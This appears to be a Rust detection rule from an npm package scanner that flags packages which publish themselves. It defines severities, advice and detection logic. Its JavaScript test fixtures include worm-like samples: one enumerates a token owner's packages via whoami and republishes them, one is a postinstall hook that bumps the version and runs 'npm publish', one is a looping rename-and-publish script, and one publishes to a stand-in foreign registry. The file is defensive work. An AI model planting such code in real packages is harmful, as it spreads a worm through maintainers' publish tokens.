//! The package publishes packages by itself.

use std::collections::BTreeSet;

use super::host;
use super::judge::{self, ByTrigger};
use super::provenance::{FORGES, Whose};
use super::{Context, Declaration, Example, Finding};
use crate::api::targets;
use crate::behaviours::Behaviour;
use crate::model::{Confidence, FileId, Origin, Severity, SurfaceKind};

pub(super) static FINDING: Declaration = Declaration {
    id: "self-publishing",
    title: "Publishes packages by itself",
    severity: Severity::Critical,
    summary: "An install hook, or code that runs on import, publishes to a registry, or code changes a manifest and then publishes. This is how a worm goes on to the next packages.",
    advice: "Don't install it. If it ran where a token may publish, revoke the token and look at what was published in your name.",
    benign_when: "A release tool publishes the project in which somebody runs it.",
    references: &["CWE-506", "T1072", "T1195.002"],
    examples: &[
        Example {
            name: "all packages of a token's owner are asked for",
            severity: Some(Severity::High),
            files: &[
                (
                    "package.json",
                    r#"{"name":"a","version":"1.0.0","main":"i.js"}"#,
                ),
                (
                    "i.js",
                    r#"const registry = require("npm-registry-fetch");
module.exports = async (manifest, options, publish) => {
  const { username } = await registry.json("/-/whoami", options);
  const { objects } = await registry.json(`/-/v1/search?text=maintainer:${username}&size=250`, options);
  for (const { package: one } of objects) await publish({ ...one, version: one.version + "0" }, options);
};"#,
                ),
            ],
        },
        Example {
            name: "an install script bumps a version and publishes",
            severity: Some(Severity::Critical),
            files: &[
                (
                    "package.json",
                    r#"{"name":"a","version":"1.0.0","scripts":{"postinstall":"node i.js"}}"#,
                ),
                (
                    "i.js",
                    r#"const { execSync } = require("child_process"), fs = require("fs");
const json = JSON.parse(fs.readFileSync("/tmp/p/package.json", "utf8"));
fs.writeFileSync("/tmp/p/package.json", JSON.stringify({ ...json, version: "1.0.1" }));
execSync("npm publish", { cwd: "/tmp/p" });"#,
                ),
            ],
        },
        Example {
            name: "a file that nothing leads to renames and publishes the package",
            severity: Some(Severity::High),
            files: &[
                (
                    "package.json",
                    r#"{"name":"a","version":"1.0.0","main":"i.js"}"#,
                ),
                ("i.js", "exports.a = 1;"),
                (
                    "auto.js",
                    r#"const fs = require("fs"), path = require("path"), { execSync } = require("child_process");
const at = path.join(__dirname, "package.json");
setInterval(() => {
  const json = JSON.parse(fs.readFileSync(at, "utf8"));
  json.name = "a" + Math.random();
  fs.writeFileSync(at, JSON.stringify(json));
  execSync("npm publish --access public");
}, 5000);"#,
                ),
            ],
        },
        Example {
            name: "a check before publication publishes, to a registry of its own choice",
            severity: Some(Severity::High),
            files: &[
                (
                    "package.json",
                    r#"{"name":"a","version":"1.0.0","main":"i.js","bin":"b.js"}"#,
                ),
                ("b.js", "require('./i').check();"),
                (
                    "i.js",
                    r#"const { spawnSync } = require("child_process");
exports.check = () => spawnSync("npm", ["publish", "--registry", "https://packages.other.invalid/"], { stdio: "ignore" });"#,
                ),
            ],
        },
        Example {
            name: "a release tool that its user runs",
            severity: None,
            files: &[
                (
                    "package.json",
                    r#"{"name":"a","version":"1.0.0","bin":"i.js"}"#,
                ),
                (
                    "i.js",
                    r#"const { execSync } = require("child_process"), fs = require("fs");
const json = JSON.parse(fs.readFileSync("package.json", "utf8"));
fs.writeFileSync("package.json", JSON.stringify({ ...json, version: process.argv[2] }));
execSync("npm publish", { stdio: "inherit" });"#,
                ),
            ],
        },
    ],
    detect,
};

const AT_MOST: ByTrigger = ByTrigger {
    import: Severity::Critical,
    asked: Severity::High,
};

fn detect(context: &Context<'_>, found: &mut Vec<Finding>) {
    found.extend(enumerates(context));
    let changing: BTreeSet<FileId> = files(context, changes_own_manifest);
    let rewriting: BTreeSet<FileId> = files(context, changes_manifest);
    let stealing: BTreeSet<FileId> = files(context, reads_token);
    for behaviour in context.behaviours {
        if behaviour.what.id != "module.publish" {
            continue;
        }
        let reach = behaviour.reach;
        let unasked = reach.loads_on(SurfaceKind::Install) || reach.loads_on(SurfaceKind::Import);
        let here = |files: &BTreeSet<FileId>| {
            behaviour
                .sites
                .iter()
                .any(|site| files.contains(&site.file))
        };
        let by_command = reach.get(SurfaceKind::Bin).is_some();
        // A tool changes the project in which it runs; a file that nothing leads to is no tool.
        let spreads = (here(&changing) && (here(&stealing) || !by_command))
            || (reach.is_dormant() && here(&rewriting));
        let foreign = foreign_registry(context, behaviour);
        if !unasked && !spreads && foreign.is_none() {
            continue;
        }
        let what = behaviour.target.as_deref().unwrap_or("a package");
        let message = match foreign {
            Some(host) => format!("publishes {what} to {host}, which the package chose"),
            None => format!("publishes {what}"),
        };
        let mut finding = Finding::of_behaviour(&FINDING, behaviour, message);
        if reach.is_dormant() {
            let note = "no surface of the package leads to this file".to_owned();
            finding.lower(Severity::High, "dormant", note);
        } else {
            judge::by_trigger(AT_MOST, &mut finding);
        }
        found.push(finding);
    }
}

/// The host that a command for publishing names, if it is nobody's registry and not the package's.
fn foreign_registry(context: &Context<'_>, behaviour: &Behaviour) -> Option<String> {
    let commands = context.behaviours.iter().filter(|one| {
        let mut sites = one.sites.iter();
        one.what.id.starts_with("process.") && sites.any(|at| behaviour.sites.contains(at))
    });
    // What somebody else may name instead is not the package's choice.
    let is_open = |one: &&Behaviour| {
        [Origin::Parameter, Origin::Environment, Origin::File]
            .iter()
            .any(|&from| one.origin.has(from))
    };
    if commands.clone().any(|one| is_open(&one)) {
        return None;
    }
    let commands = commands.filter_map(|one| one.target.as_deref());
    let publish = commands.filter(|line| line.split(' ').any(|word| word == "publish"));
    let hosts: Option<Vec<String>> = publish
        .map(|line| {
            let (_, rest) = line.split_once("--registry")?;
            let url = rest.trim_start_matches(['=', ' ']).split(' ').next()?;
            let at = host::host(url)?;
            let is_foreign = context.home.whose(url) == Some(Whose::Foreign);
            (is_foreign && !FORGES.contains(&host::label(&at))).then_some(at)
        })
        .collect();
    // A default is for its user to change.
    hosts?.into_iter().next()
}

/// Who asks a registry for its user's name and then for that user's packages lists what a token
/// opens.
fn enumerates(context: &Context<'_>) -> Option<Finding> {
    let asks = |words: &'static str| {
        let all = context.behaviours.iter();
        all.filter(move |one| {
            let target = one.target.as_deref().unwrap_or("");
            one.what.id == "network.http" && target.contains(words) && !one.reach.is_dormant()
        })
    };
    let whose = asks("/-/whoami").next()?;
    let listed = asks("maintainer:").find(|one| {
        let mut sites = one.sites.iter();
        sites.any(|a| whose.sites.iter().any(|b| a.file == b.file))
    })?;
    let message = "lists the packages of whoever's token it uses".to_owned();
    let mut finding = Finding::of_behaviour(&FINDING, listed, message);
    finding.evidence.extend(&whose.sites);
    finding.evidence.sort_unstable();
    finding.confidence = Confidence::Medium;
    finding.lower(
        Severity::High,
        "no-publish-seen",
        "that it publishes them was not seen".to_owned(),
    );
    Some(finding)
}

fn files(context: &Context<'_>, holds: fn(&Behaviour) -> bool) -> BTreeSet<FileId> {
    let sites = context.behaviours.iter().filter(|one| holds(one));
    sites
        .flat_map(|one| one.sites.iter().map(|site| site.file))
        .collect()
}

fn changes_manifest(behaviour: &Behaviour) -> bool {
    let path = behaviour.target.as_deref().unwrap_or("");
    behaviour.what.id == "fs.write" && (path == "package.json" || path.ends_with("/package.json"))
}

/// Its own manifest or one that it unpacked; a tool changes the one of its user's project.
fn changes_own_manifest(behaviour: &Behaviour) -> bool {
    behaviour.what.id == "fs.write"
        && behaviour.target.as_deref().is_some_and(|path| {
            path.ends_with("/package.json")
                && (path.starts_with("<package>")
                    || path.starts_with("<tmp>")
                    || path.starts_with("/tmp"))
        })
}

fn reads_token(behaviour: &Behaviour) -> bool {
    let target = behaviour.target.as_deref().unwrap_or("");
    let secret = match behaviour.what.id {
        "fs.read" => targets::secret_path(target).map(|secret| secret.id),
        "environment.read" => targets::secret_variable(target).map(|secret| secret.id),
        _ => None,
    };
    secret == Some("credential.npm")
}
